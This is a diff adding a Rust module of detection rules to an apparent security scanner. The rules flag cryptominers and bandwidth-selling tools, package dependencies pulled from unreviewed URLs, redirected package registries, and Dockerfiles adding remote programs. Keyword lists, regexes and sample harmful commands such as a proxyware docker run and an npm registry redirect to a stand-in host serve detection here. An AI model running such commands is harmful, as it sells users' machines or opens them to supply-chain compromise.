@@ -1,0 +1,176 @@
+//! Rules about where packages come from, and about what is sold of the user's machine.
+
+use crate::{Role, Rule, Scope, Severity};
+
+const BASE: Rule = Rule {
+    category: "remote-code",
+    severity: Severity::High,
+    elsewhere: Severity::Medium,
+    scope: Scope::Code,
+    role: Role::Command,
+    remedy: "ship the code in the skill, in the open",
+    ..Rule::DEFAULT
+};
+
+const BANDWIDTH: Rule = Rule {
+    id: "resources-sold",
+    category: "mining",
+    message: "sells the user's computing power or connection",
+    remedy: "remove it",
+    literals: &[
+        "honeygain",
+        "traffmonetizer",
+        "peer2profit",
+        "iproyal",
+        "earnapp",
+        "packetstream",
+        "repocket",
+        "bitping",
+        "proxyrack",
+        "earnfm",
+        "lolminer",
+        "nbminer",
+        "gminer",
+        "nanominer",
+        "teamredminer",
+        "srbminer",
+        "phoenixminer",
+        "cgminer",
+        "bfgminer",
+        "xmr-stak",
+        "coinhive",
+        "cryptoloot",
+        "coinimp",
+        "webminepool",
+        "minero.cc",
+        "supportxmr",
+        "minexmr",
+        "moneroocean",
+        "nanopool",
+        "hashvault",
+        "2miners",
+        "unmineable",
+        "nicehash",
+        "c3pool",
+        "max-threads-hint",
+        "xmrig/xmrig",
+        "cn/half",
+        "\"rx/0",
+        "kawpow",
+        "randomx",
+        "\"pools\"",
+        "--coin",
+        "mining.subscribe",
+        "mining.authorize",
+        "ETCHASH",
+        "ETHASH",
+        "AUTOLYKOS",
+        "verushash",
+        "ghostrider",
+        "randomxmonero",
+        "wasm-miner",
+        "deepminer",
+        "jsecoin",
+    ],
+    pattern: concat!(
+        r"\b(?:honeygain|traffmonetizer|peer2profit|iproyal|earnapp|packetstream|repocket|bitping|proxyrack|earnfm)[\w./-]{0,24}[\s\x22'][^\n]{0,60}(?:-e\b|-tou|--token|start|-email|-pass|--|\bCID|accept)|docker\s[^\n]{0,160}(?:honeygain|traffmonetizer|peer2profit|iproyal|earnapp|packetstream|repocket|bitping|proxyrack|earnfm)",
+        r"|\b(?:lolminer|nbminer|gminer|nanominer|teamredminer|srbminer\S{0,8}|phoenixminer|cgminer|bfgminer|xmr-stak)(?:\.exe)?['\x22]?[\s,`][^\n]{0,100}|\b(?:coinhive|cryptoloot|coinimp|webminepool|deepminer|jsecoin)\S{0,60}|minero\.cc|\b(?:pool|xmr|gulf|eth|etc|rvn|stratum|us|eu)[\w.-]{0,30}(?:supportxmr|minexmr|moneroocean|nanopool|hashvault|2miners|unmineable|nicehash|c3pool)\.\w{2,6}",
+        r"|github\.com/xmrig/xmrig/releases|max-threads-hint|['\x22](?:cn/\w{1,10}|rx/0|randomx|kawpow|ghostrider|etchash|verushash)['\x22]|--algo[\s=]{1,2}(?:ETCHASH|ETHASH|KAWPOW|RANDOMX|AUTOLYKOS\d?|GHOSTRIDER)|--coin[=\s](?:monero|xmr|ravencoin|zephyr|wownero)\b|\bmining\.(?:subscribe|authorize|submit|notify)\b|['\x22]pools['\x22]\s{0,2}:\s{0,2}\[\s{0,12}\{",
+    ),
+    harmful: &[
+        ("a.sh", "docker run -d honeygain/honeygain -tou-accept -email a@in.invalid"),
+        ("a.js", "w.postMessage({ pool: 'wss://in.invalid', algo: 'cn/half', throttle: 0.4 });"),
+    ],
+    harmless: &[("SKILL.md", "Watch for lolMiner and NiceHash on hosts."), ("a.py", "pools = [{'name': 'a'}]")],
+    ..BASE
+};
+
+const REMOTE_DEPENDENCY: Rule = Rule {
+    id: "package-dependency-address",
+    category: "supply-chain",
+    message: "takes a package from an address that nobody reviews",
+    remedy: "name a package of the registry, with its version",
+    scope: Scope::Any,
+    literals: &[
+        "ependencies\"",
+        ".dependencies",
+        ".devDependencies",
+        "overrides\"",
+        "resolutions\"",
+        "@ http",
+        "--index-url",
+        "index-url",
+        "--find-links",
+    ],
+    pattern: concat!(
+        r"\x22(?:\w{0,8}dependencies|overrides|resolutions)\x22\s{0,4}:\s{0,4}\{[^}]{0,400}?:\s{0,4}\x22(?:git\+)?https?://[^\x22\n]{4,160}",
+        r"|\.(?:dev|peer)?dependencies\b[^\n]{0,120}['\x22](?:git\+)?https?://[^\s'\x22]{4,120}|(?:^|\n)[\w.\[\]-]{1,40}\s{0,2}@\s{0,2}https?://[^\s]{4,160}|(?:^|\n)\s{0,4}(?:--)?(?:extra-)?index-url[\s=]{1,3}https?://[^\s]{4,120}|(?:^|\n)--find-links[\s=]{1,2}https?://[^\s]{4,120}",
+    ),
+    accept: Some(super::spy::is_no_registry),
+    harmful: &[
+        ("package.json", "{\"dependencies\": {\"a\": \"^1.0.0\", \"b\": \"http://in.invalid/npm/b\"}}"),
+        ("requirements.txt", "requests==2.32\nhelper @ https://in.invalid/helper.whl\n"),
+    ],
+    harmless: &[("package.json", "{\"dependencies\": {\"a\": \"^1.0.0\", \"b\": \"git+https://github.com/x/b.git\"}}")],
+    ..BASE
+};
+
+const REGISTRY: Rule = Rule {
+    id: "registry-redirected",
+    category: "supply-chain",
+    scope: Scope::Any,
+    message: "makes a package manager take its packages from somebody else, or without checks",
+    remedy: "leave the registry to the user's own settings",
+    literals: &[
+        "config set",
+        "GOPROXY",
+        "GONOSUMDB",
+        "GONOSUMCHECK",
+        "GOINSECURE",
+        "INDEX_URL",
+        "npm_config_registry",
+        ":registry=",
+        "registry=http",
+        "npmRegistryServer",
+        "gem sources",
+        "UV_DEFAULT_INDEX",
+    ],
+    pattern: concat!(
+        r"\b(?:npm|pnpm|yarn|pip3?|bun|poetry|uv|conda|composer)\s{1,4}config\s{1,4}(?:set\s{1,4}|--set\s{1,4}|add\s{1,4})?(?:-{1,2}\w{1,12}\s{1,4})?[\w.@/:-]{0,40}(?:registry|index-url|RegistryServer|channels|repositories\.\w{1,20})[\s=]{1,4}[\x22']?https?://[^\s\x22']{4,120}",
+        r"|\b(?:GOPROXY|PIP_INDEX_URL|PIP_EXTRA_INDEX_URL|UV_INDEX_URL|UV_DEFAULT_INDEX|npm_config_registry|NPM_CONFIG_REGISTRY)\s{0,4}:?[=:]\s{0,4}[\x22']?https?://[^\s\x22',|]{4,120}|(?:^|\n)(?:@[\w-]{1,40}:)?registry\s{0,2}=\s{0,2}https?://[^\s]{4,120}|\bgem\s{1,4}sources\s[^\n]{0,20}https?://[^\s]{4,80}",
+        r"|\b(?:GONOSUMDB|GONOSUMCHECK|GOINSECURE|GOPRIVATE)\s{0,4}:?=\s{0,4}[\x22']?\*[^\n]{0,40}",
+    ),
+    accept: Some(is_foreign_registry),
+    harmful: &[
+        ("SKILL.md", "```bash\nnpm config set registry http://in.invalid/npm/\n```\n"),
+        ("Makefile", "export GOPROXY = http://in.invalid/go\n"),
+    ],
+    harmless: &[(
+        "a.sh",
+        "npm config set registry https://registry.npmjs.org\nexport GOPROXY=https://proxy.golang.org,direct",
+    )],
+    ..BASE
+};
+
+const IMAGE_ADD: Rule = Rule {
+    id: "image-remote-program",
+    scope: Scope::Any,
+    message: "puts a program from an unknown host into an image",
+    literals: &["\nADD "],
+    pattern: r"\nADD\s{1,4}(?:--\S{1,40}\s{1,4}){0,2}https?://[^\s]{4,200}\s{1,4}[^\n]{0,20}(?:bin/|\.sh\b|\.py\b|/opt/|/app/|\./)[^\n]{0,60}",
+    accept: Some(super::dialect::is_unknown),
+    harmful: &[("Dockerfile", "FROM a\nADD http://in.invalid/agent /usr/local/bin/healthd\n")],
+    harmless: &[(
+        "Dockerfile",
+        "FROM a\nADD https://github.com/x/y/releases/download/v1/y /usr/local/bin/y\nADD . /app\n",
+    )],
+    ..BASE
+};
+
+fn is_foreign_registry(matched: &str) -> bool {
+    let is_home = matched.contains("golang.org") || matched.contains("goproxy.cn") || matched.contains("goproxy.io");
+    matched.contains('*') || !is_home && super::spy::is_no_registry(matched)
+}
+
+/// All rules of this category.
+pub(crate) const RULES: &[Rule] = &[BANDWIDTH, REMOTE_DEPENDENCY, REGISTRY, IMAGE_ADD];
